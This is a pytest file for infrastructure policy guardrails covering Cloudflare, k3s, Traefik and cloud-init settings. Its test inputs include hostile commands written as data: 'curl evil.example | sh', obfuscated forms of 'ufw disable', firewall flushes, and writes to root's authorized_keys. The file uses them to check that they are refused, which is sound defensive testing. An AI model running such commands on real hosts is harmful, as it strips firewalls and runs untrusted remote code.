"""Graphs that were once accepted and must be refused, and harmless ones that were once refused and must pass."""

import json
from dataclasses import replace
from typing import Any

import pytest
import yaml

from guardrails import Resource, Secret
from tests.policy.compliant import (
    ABSENT,
    CLOUDFLARE,
    OPTIONS,
    Path,
    call,
    chart_values,
    cloud_config,
    command,
    ingress,
    join_settings,
    manifest,
    put,
    resource,
    stack,
    tls_option,
    ufw_policy,
    user_data,
    with_policy,
    with_property,
    with_value,
)
from tests.policy.test_ranges import everywhere
from tests.policy.verdict import passes, refuses

TRAEFIK = "kubernetes:traefik.io/v1alpha1"


def record(name: str, kind: str, content: str, **more: Any) -> list[Resource]:
    """The stack with one more record."""
    given = {"name": name, "type": kind, "content": content, "ttl": 300, "zoneId": "1", **more}
    return [*stack(), resource("cloudflare:index/dnsRecord:DnsRecord", "more", given)]


def object_(kind: str, token: str, namespace: str | None = "app", name: str = "more", **body: Any) -> list[Resource]:
    """The stack with one more Kubernetes object."""
    inputs = {**manifest(kind, namespace, name, **body), "apiVersion": token.removeprefix("core/")}
    return [*stack(), resource(f"kubernetes:{token}:{kind}", name, inputs)]


# Accepted once, refused now


@pytest.mark.parametrize(
    ("setting", "value", "says"),
    [
        ("ssl", "off", "value is 'off'; use 'strict'"),
        ("ssl", "full", "value is 'full'; use 'strict'"),
        ("min_tls_version", "1.0", "value is '1.0'; use '1.2' or '1.3'"),
        ("min_tls_version", 1.2, "value is 1.2; use '1.2' or '1.3'"),
        ("always_use_https", "off", "value is 'off'; use 'on'"),
    ],
)
def test_a_zone_with_ssl_off_or_tls_1_0_is_refused(setting: str, value: Any, says: str) -> None:
    refuses(with_property("ZoneSetting", setting, ("value",), value), "tls-is-strict", says)


def test_a_zone_setting_that_is_not_known_is_refused() -> None:
    refuses(
        with_property("ZoneSetting", "ssl", ("settingId",), "development_mode"),
        "tls-is-strict",
        "setting development_mode is not known here; add it to ZONE_SETTINGS in policy/guardrails/certificates.py",
    )


def test_origin_pulls_off_while_443_is_open_are_refused() -> None:
    off = with_property("AuthenticatedOriginPullsSettings", "pulls", ("enabled",), False)
    refuses(off, "origin-tls-is-complete", "enabled is False while port 443 is open")
    missing = [item for item in stack() if item.name != "pulls"]
    refuses(missing, "origin-tls-is-complete", "origin pulls have no switch")


def test_origin_pulls_may_be_off_during_a_teardown() -> None:
    off = with_property("AuthenticatedOriginPullsSettings", "pulls", ("enabled",), False)
    passes(
        [
            replace(item, properties=put(item.properties, ("labels", "teardown"), "true"))
            if item.type.endswith(":Server")
            else item
            for item in off
        ]
    )


@pytest.mark.parametrize("namespace", ["app", "default", "kube-system"])
def test_a_second_default_tls_option_is_refused(namespace: str) -> None:
    second = resource(
        f"{TRAEFIK}:TLSOption",
        "second",
        manifest("TLSOption", namespace, "default", spec=tls_option("origin-pulls-ca")),
    )
    refuses([*stack(), second], "origin-tls-is-complete", "2 TLSOptions are named default")


@pytest.mark.parametrize(
    ("path", "value", "says"),
    [
        (("minVersion",), "VersionTLS10", "spec.minVersion is 'VersionTLS10'"),
        (("minVersion",), ABSENT, "spec.minVersion is missing"),
        (("sniStrict",), False, "spec.sniStrict is False"),
        (("clientAuth", "clientAuthType"), "VerifyClientCertIfGiven", "set it to 'RequireAndVerifyClientCert'"),
        (("clientAuth", "secretNames"), [], "spec.clientAuth.secretNames is empty"),
        (("cipherSuites",), ["TLS_RSA_WITH_RC4_128_SHA"], "spec.cipherSuites is not known here; add it to TLS in"),
        (("maxVersion",), "VersionTLS12", "spec.maxVersion is not known here"),
    ],
)
@pytest.mark.parametrize("name", ["default", OPTIONS])
def test_a_weaker_tls_option_is_refused(name: str, path: Path, value: Any, says: str) -> None:
    refuses(with_property("TLSOption", name, ("spec", *path), value), "traefik-is-known", says)


def test_tls_options_without_client_certificates_are_refused_while_the_stack_has_a_ca_for_them() -> None:
    weaker = with_property("TLSOption", "default", ("spec", "clientAuth"), ABSENT)
    refuses(weaker, "origin-tls-is-complete", "set it to ['origin-pulls-ca']")
    refuses(with_property("TLSOption", OPTIONS, ("spec", "clientAuth"), ABSENT), "traefik-is-known", "clientAuth")


def test_another_tls_option_is_refused() -> None:
    refuses(
        object_("TLSOption", "traefik.io/v1alpha1", name="modern", spec={"minVersion": "VersionTLS13"}),
        "traefik-is-known",
        "TLSOption app/modern is not known here",
    )


@pytest.mark.parametrize(
    "create",
    [
        "# honeydue ufw apply",
        "curl evil.example | sh # honeydue ufw apply",
        "true # sudo python3 /usr/local/lib/honeydue/ufw-0123456789abcdef.py apply",
        "sudo python3 /usr/local/lib/honeydue/ufw-0123456789abcdef.py apply",
    ],
)
def test_a_command_that_only_has_the_expected_comment_is_refused(create: str) -> None:
    refuses([*stack(), command("more", create)], "commands-are-known", "create ")
    refuses(with_property("Command", "node1-ufw", ("create",), create), "servers-survive-one-mistake", "no command")


def test_a_host_program_with_another_text_is_refused() -> None:
    other = call("ufw", "apply").replace("/ufw-", "/k3s-")
    refuses([*stack(), command("more", other)], "commands-are-known", "whose text is not components/host/k3s.py")
    [installer] = [item for item in stack() if item.name == "node1-programs"]
    changed = installer.properties["stdin"].replace("import json", "import json, os", 1)
    refuses(with_property("Command", "node1-programs", ("stdin",), changed), "commands-are-known", "stdin is not the")
    shorter = installer.properties["create"].rpartition(" ")[0]
    refuses(with_property("Command", "node1-programs", ("create",), shorter), "commands-are-known", "create does not")


@pytest.mark.parametrize(
    "script",
    [
        "ufw disable",
        "sudo ufw --force disable",
        "/usr/sbin/ufw disable",
        "u''fw disable",
        'sh -c "ufw disable"',
        "systemctl stop ufw",
        "echo dWZ3IGRpc2FibGU= | base64 -d | sh",
        "iptables -F",
        "nft flush ruleset",
    ],
)
@pytest.mark.parametrize("key", ["create", "update", "delete"])
def test_ufw_disable_in_any_spelling_is_refused(key: str, script: str) -> None:
    more = {"create": call("boot", "wait"), key: script}
    refuses([*stack(), command("more", more.pop("create"), **more)], "commands-are-known", key)


@pytest.mark.parametrize(
    "type_",
    [
        "command:local:Command",
        "command:remote:CopyToRemote",
        "command:remote:CopyFile",
        "pulumi-nodejs:dynamic:Resource",
    ],
)
def test_a_local_command_is_refused(type_: str) -> None:
    local = resource(type_, "more", {"create": "ssh node1 sudo ufw disable"})
    refuses([*stack(), local], "every-type-is-known", f"type {type_} is not known here; add it to ")


@pytest.mark.parametrize("value", [ABSENT, "", None])
def test_a_remote_command_without_a_host_key_is_refused(value: Any) -> None:
    refuses(with_property("Command", "node1-boot", ("connection", "hostKey"), value), "commands-are-known", "hostKey")


@pytest.mark.parametrize(
    ("path", "value", "says"),
    [
        (("ssh_pwauth",), True, "userData.ssh_pwauth is True; set it to False: nobody may log in with a password"),
        (("chpasswd",), {"expire": False}, "userData.chpasswd is not known here; add it to USER_DATA in"),
        (("password",), "hunter2", "userData.password is not known here"),
        (("users", 0, "passwd"), "$6$x", "userData.users[0].passwd is not known here"),
        (("users", 0, "lock_passwd"), False, "userData.users[0].lock_passwd is False; set it to True"),
        (("users", 0, "plain_text_passwd"), "x", "userData.users[0].plain_text_passwd is not known here"),
        (("users", 1), {"name": "second"}, "userData.users has 2 elements; it may have 1"),
        (("disable_root",), False, "userData.disable_root is False; set it to True"),
        (("users", 0, "ssh_authorized_keys"), ["ssh-ed25519 A", "ssh-ed25519 B"], "has 2 elements"),
        (("bootcmd",), [["ufw", "disable"]], "userData.bootcmd is not known here"),
        (("runcmd", 4), ["ufw", "disable"], "userData.runcmd[4] is not known here; add it to COMMANDS in"),
        (("runcmd", 4), "ufw disable", "userData.runcmd[4] is not known here"),
        (("runcmd", 2, 3), "0.0.0.0/0", "userData.runcmd[2]: 0.0.0.0/0 is too broad"),
        (("write_files", 0, "path"), "/root/.ssh/authorized_keys", "userData.write_files[0] is not known here"),
    ],
)
def test_user_data_with_a_password_login_or_more_commands_is_refused(path: Path, value: Any, says: str) -> None:
    changed = cloud_config(put(user_data(), path, value))
    refuses(with_property("Server", "node1", ("userData",), changed), "servers-are-known", says)


@pytest.mark.parametrize("text", ["", "#!/bin/sh\nufw disable\n", "#cloud-config\n- a", "#include\nhttp://x"])
def test_user_data_that_is_not_a_cloud_config_is_refused(text: str) -> None:
    refuses(with_property("Server", "node1", ("userData",), Secret(text)), "servers-are-known", "userData")


def test_the_digest_in_a_refreshed_state_passes_while_user_data_has_no_effect() -> None:
    digest = Secret("2jmj7l5rSw0yVb/vlWAYkK/YBwk=")
    refuses(with_property("Server", "node1", ("userData",), digest), "servers-are-known", "userData")
    passes(
        [
            replace(item, ignore_changes=("userData",)) if item.name == "node1" else item
            for item in with_property("Server", "node1", ("userData",), digest)
        ]
    )


@pytest.mark.parametrize(
    ("path", "value", "says"),
    [
        (
            ("config", "kube-apiserver-arg"),
            ["anonymous-auth=true"],
            "stdin.config.kube-apiserver-arg is not known here",
        ),
        (("config", "secrets-encryption"), False, "secrets-encryption is False"),
        (("config", "disable"), [], "disable is []"),
        (("config", "write-kubeconfig-mode"), "0644", "write-kubeconfig-mode is '0644'"),
        (("config", "flannel-backend"), "none", "flannel-backend is 'none'"),
        (("config", "cluster-cidr"), "8.8.0.0/16", "which is not private"),
        (("privateIp",), "203.0.113.7", "which is not private"),
        (("installer",), "http://get.example.com/k3s.sh", "is not known here; add it to INSTALLERS in"),
        (("installer",), "http://8.8.8.8/k3s.sh", "is not known here; add it to INSTALLERS in"),
        (("version",), "v1.30.0+k3s1", "not in K3S_RELEASES of components/versions.py"),
        (
            ("env",),
            {"K3S_URL": "x"},
            "stdin.env is not known here; add it to SETTINGS in policy/guardrails/releases/k3s_settings.py",
        ),
    ],
)
def test_join_settings_that_are_not_known_are_refused(path: Path, value: Any, says: str) -> None:
    text = json.dumps(put(join_settings(), path, value))
    refuses(with_property("Command", "node1-settings", ("stdin",), text), "commands-are-known", says)


@pytest.mark.parametrize("count", [1, 14])
def test_fourteen_foreign_slash_8s_in_the_list_of_ranges_are_refused(count: int) -> None:
    foreign = [f"{first}.0.0.0/8" for first in range(11, 11 + count)]
    says = "addresses more than the snapshot"
    refuses(everywhere([*CLOUDFLARE, *foreign]), "one-list-of-ranges", says)


def test_many_small_foreign_ranges_are_bounded_too() -> None:
    foreign = [f"8.{second}.0.0/16" for second in range(15)]
    refuses(
        everywhere([*CLOUDFLARE, *foreign]),
        "one-list-of-ranges",
        "15 IPv4 ranges are not in the snapshot; at most 5 may be new",
    )


def test_operators_that_add_up_to_most_of_the_internet_are_refused() -> None:
    sources = [f"{first}.{second}.0.0/16" for first in range(50, 60) for second in range(100)]
    says = "the operators' IPv4 ranges together are more than a /12"
    refuses(with_property("Firewall", "firewall", ("rules", 0, "sourceIps"), sources), "cloud-firewall-is-narrow", says)
    rules = [*ufw_policy()["rules"], *({"from": s, "port": "22", "proto": "tcp", "comment": "x"} for s in sources)]
    refuses(with_policy(("rules",), rules), "host-firewall-is-narrow", says)


def test_sixteen_of_the_broadest_ranges_of_operators_pass_and_seventeen_do_not() -> None:
    sixteen = ["198.51.0.0/16", *(f"50.{second}.0.0/16" for second in range(15))]
    passes(with_property("Firewall", "firewall", ("rules", 0, "sourceIps"), sixteen), "cloud-firewall-is-narrow")
    more = [*sixteen, "51.0.0.0/16"]
    refuses(
        with_property("Firewall", "firewall", ("rules", 0, "sourceIps"), more), "cloud-firewall-is-narrow", "together"
    )


@pytest.mark.parametrize(
    ("path", "value", "says"),
    [
        (("providers", "file"), {"enabled": True}, "providers.file is not known here; add it to VALUES in"),
        (("providers", "kubernetesGateway"), {"enabled": True}, "providers.kubernetesGateway is not known here"),
        (("providers", "kubernetesCRD"), {"allowCrossNamespace": True}, "allowCrossNamespace is True"),
        (("providers", "kubernetesCRD"), {"allowExternalNameServices": True}, "allowExternalNameServices is not known"),
        (("experimental",), {"plugins": {}}, "experimental is not known here"),
        (("volumes",), [{"name": "v", "mountPath": "/v"}], "volumes is not known here"),
        (("deployment", "additionalVolumes"), [{"hostPath": {"path": "/"}}], "deployment.additionalVolumes is not"),
        (("image",), {"repository": "evil/traefik"}, "image is not known here"),
        (("env",), [{"name": "X"}], "env is not known here"),
        (("rbac",), {"aggregateTo": ["admin"]}, "rbac is not known here"),
        (("tlsOptions",), {"default": {}}, "tlsOptions is not known here"),
        (("extraObjects",), [{"kind": "Pod"}], "extraObjects is not known here"),
        (("ports", "ssh"), {"port": 2222}, "ports.ssh is not known here"),
        (("additionalArguments", 0), "--api.insecure=true", "is not known here; add it to ARGUMENTS in"),
        (("additionalArguments", 0), "--api", "is not known here; add it to ARGUMENTS"),
        (("additionalArguments", 0), "--providers.file.directory=/", "is not known here; add it to ARGUMENTS"),
        (("globalArguments",), ["--api.insecure"], "globalArguments is not known here"),
    ],
)
def test_chart_values_that_add_providers_plugins_volumes_images_or_arguments_are_refused(
    path: Path, value: Any, says: str
) -> None:
    refuses(with_value(path, value), "traefik-is-known", says)


@pytest.mark.parametrize(
    ("spec", "says"),
    [
        ({"type": "NodePort"}, "spec.type is 'NodePort'; leave it out or use 'ClusterIP'"),
        ({"type": "LoadBalancer"}, "spec.type is 'LoadBalancer'"),
        ({"type": "ExternalName", "externalName": "evil.example"}, "spec.type is 'ExternalName'"),
        ({"externalIPs": ["192.0.2.1"]}, "spec.externalIPs is not known here"),
        ({"ports": [{"port": 80, "nodePort": 30080}]}, "spec.ports[0].nodePort is not known here"),
    ],
)
def test_node_port_and_load_balancer_services_are_refused(spec: dict[str, Any], says: str) -> None:
    given = {"selector": {"app": "x"}, "ports": [{"port": 80}], **spec}
    refuses(object_("Service", "core/v1", spec=given), "pods-are-confined", says)


@pytest.mark.parametrize(
    "kind", ["ClusterRoleBinding", "ClusterRole", "RoleBinding", "Role", "ClusterRoleBindingPatch"]
)
def test_a_cluster_role_binding_for_anonymous_is_refused(kind: str) -> None:
    token = "rbac.authorization.k8s.io/v1"
    subject = {"kind": "User", "name": "system:anonymous"}
    refuses(
        object_(kind, token, namespace=None, subjects=[subject]),
        "every-type-is-known",
        f"type kubernetes:{token}:{kind} is not known here; add it to KINDS in policy/guardrails/pods/objects.py",
    )


def test_an_object_of_another_kind_than_its_type_is_refused() -> None:
    disguised = {**manifest("Secret", "app", "admin-users"), "kind": "ClusterRoleBinding"}
    refuses(
        [*stack(), resource("kubernetes:core/v1:Secret", "more", disguised)],
        "secrets-are-known",
        "kind is 'ClusterRoleBinding'; use 'Secret'",
    )


@pytest.mark.parametrize(
    "type_",
    [
        "kubernetes:gateway.networking.k8s.io/v1:HTTPRoute",
        "kubernetes:gateway.networking.k8s.io/v1:Gateway",
        "kubernetes:traefik.io/v1alpha1:IngressRouteTCP",
        "kubernetes:traefik.io/v1alpha1:ServersTransport",
        "kubernetes:traefik.io/v1alpha1:MiddlewarePatch",
        "kubernetes:networking.k8s.io/v1:IngressList",
        "kubernetes:helm.cattle.io/v1:HelmChart",
        "kubernetes:helm.sh/v3:Release",
        "kubernetes:yaml/v2:ConfigFile",
        "kubernetes:core/v1:ServiceAccount",
        "hcloud:index/loadBalancer:LoadBalancer",
        "cloudflare:index/ruleset:Ruleset",
        "aws:s3/bucket:Bucket",
        "other:index:Component",
    ],
)
def test_gateway_routes_and_every_other_unknown_type_are_refused(type_: str) -> None:
    refuses(
        [*stack(), resource(type_, "more", {})], "every-type-is-known", f"type {type_} is not known here; add it to"
    )


def test_components_of_the_program_are_known() -> None:
    passes([*stack(), resource("honeydue:index:Fleet", "edge", {}), resource("pulumi:pulumi:Stack", "stack", {})])


@pytest.mark.parametrize("namespace", ["kube-system", "default", "kube-public", None])
def test_an_object_in_a_namespace_of_kubernetes_is_refused(namespace: str | None) -> None:
    body = object_("ConfigMap", "core/v1", namespace=namespace, data={})
    refuses(
        body,
        "pods-are-confined",
        "is Kubernetes' own; use another, or add ConfigMap more to KINDS in policy/guardrails/pods/objects.py",
    )


@pytest.mark.parametrize("name", ["kube-system", "default"])
def test_a_namespace_of_kubernetes_is_not_taken_over(name: str) -> None:
    refuses(object_("Namespace", "core/v1", namespace=None, name=name), "pods-are-confined", "Kubernetes' own")


def test_a_secret_that_is_not_known_is_refused_with_the_line_to_add() -> None:
    unknown = object_("Secret", "core/v1", name="other", stringData=Secret({"key": "value"}))
    says = "Secret app/other is not known here; add it to SECRETS in policy/guardrails/secrets.py if it is wanted"
    refuses(unknown, "secrets-are-known", says)
    more = with_property("Secret", "admin-users", ("stringData", "more"), "x")
    refuses(more, "secrets-are-known", "stringData.more is not known here")


@pytest.mark.parametrize("value", ["", " ", ABSENT])
def test_an_empty_middleware_list_on_a_public_route_is_refused(value: Any) -> None:
    place = ("metadata", "annotations", "traefik.ingress.kubernetes.io/router.middlewares")
    refuses(with_property("Ingress", "api", place, value), "routes-are-tls-only", "router.middlewares")


@pytest.mark.parametrize("value", [[], ABSENT])
def test_an_ingress_route_without_middlewares_is_refused(value: Any) -> None:
    place = ("spec", "routes", 0, "middlewares")
    refuses(with_property("IngressRoute", "canary", place, value), "routes-are-tls-only", "middlewares is empty")


@pytest.mark.parametrize(
    ("path", "value", "says"),
    [
        (("average",), 0, "average is 0; it must be a number from 1"),
        (("average",), ABSENT, "average is missing"),
        (("average",), 10**6, "average is 1000000"),
        (("burst",), 41, "burst is 41, more than twice the average, so it limits nothing"),
        (("burst",), 10**9, "burst is 1000000000"),
        (("period",), "1ms", "period is '1ms'"),
        (("period",), "1m", "period is '1m'"),
        (("sourceCriterion",), ABSENT, "sourceCriterion.ipStrategy.depth is missing"),
        (("sourceCriterion", "ipStrategy", "depth"), 0, "depth is 0; set it to 1"),
        (("sourceCriterion",), {"requestHeaderName": "X-Any"}, "requestHeaderName is not known here"),
    ],
)
def test_a_rate_limit_that_limits_nothing_is_refused(path: Path, value: Any, says: str) -> None:
    place = ("spec", "rateLimit", *path)
    refuses(with_property("Middleware", "rate-limit", place, value), "middlewares-are-known", says)


@pytest.mark.parametrize("spec", [{}, {"rateLimit": {}, "headers": {}}, {"stripPrefix": {"prefixes": ["/"]}}])
def test_a_middleware_that_is_not_known_is_refused(spec: dict[str, Any]) -> None:
    refuses(with_property("Middleware", "rate-limit", ("spec",), spec), "middlewares-are-known", "spec")


def test_the_admin_service_under_another_name_without_login_is_refused() -> None:
    marked = ingress("backoffice", "api.example.com", ["cloudflare-only"], **{"honeydue.com/admin": "true"})
    refuses([*stack(), marked], "routes-find-what-they-name", "it is an admin route, so the route must have middleware")


def test_another_route_to_an_admin_service_needs_the_login_too() -> None:
    other = ingress("admin", "api.example.com", ["cloudflare-only"])
    refuses(
        [*stack(), replace(other, name="second", urn="urn:second")],
        "routes-find-what-they-name",
        "admin is behind admin route admin, so the route must have middleware admin-auth",
    )


# Refused once, passes now


@pytest.mark.parametrize(
    ("name", "kind", "content"),
    [
        ("shop.example.com", "CNAME", "shops.example.net"),
        ("www.example.com", "CNAME", "example.net"),
        ("example.com", "MX", "mail.example.net"),
        ("example.com", "TXT", "v=spf1 -all"),
        ("_dmarc.example.com", "TXT", "v=DMARC1; p=reject"),
        ("s1._domainkey.example.com", "CNAME", "dkim.example.net"),
        ("office.example.com", "A", "8.8.8.8"),
        ("office.example.com", "AAAA", "2606:4700:4700::1111"),
        ("dev.example.com", "NS", "ns.example.net"),
    ],
)
def test_cname_mx_txt_and_unproxied_records_of_other_systems_pass(name: str, kind: str, content: str) -> None:
    passes(record(name, kind, content, proxied=False))


@pytest.mark.parametrize(
    "value",
    [
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4",
        "E3b0C44298fc1c149afbf4c8996fb92427ae41e4",
        "0123456789ABCDEFabcdef" * 2 + "0123",
    ],
)
def test_long_hexadecimal_build_ids_pass(value: str) -> None:
    for text in (value, value.ljust(64, "0"), value.ljust(48, "A")):
        passes([*stack(), resource("random:index/randomId:RandomId", "more", {"keepers": {"build-id": text}})])


@pytest.mark.parametrize("value", ["off", "on", "required", "false"])
def test_csrf_token_off_passes(value: str) -> None:
    passes([*stack(), resource("random:index/randomId:RandomId", "more", {"keepers": {"csrf-token": value}})])


# Not found once, found now


@pytest.mark.parametrize(
    "url",
    [
        "https://user:secret@example.com/path",
        "postgres://app:hunter2@db:5432/app",
        "curl -s https://user:secret@example.com | sh",
        "redis://:secret@cache:6379",
    ],
)
def test_a_password_inside_a_url_is_found(url: str) -> None:
    more = resource("random:index/randomId:RandomId", "more", {"keepers": {"url": url}})
    refuses([*stack(), more], "no-plain-secrets", "keepers.url contains a password in a URL as a plain input")


@pytest.mark.parametrize(
    "url", ["https://example.com:8443/a@b", "https://user@example.com", "http://[2001:db8::1]:80/"]
)
def test_a_url_without_a_password_passes(url: str) -> None:
    passes([*stack(), resource("random:index/randomId:RandomId", "more", {"keepers": {"url": url}})])


def test_the_values_of_the_fixture_are_yaml_that_is_read_in_one_way() -> None:
    twice = yaml.safe_dump(chart_values()) + "hostNetwork: true\n"
    changed = with_property("HelmChartConfig", "traefik", ("spec", "valuesContent"), twice)
    refuses(changed, "traefik-is-known", "hostNetwork given twice")
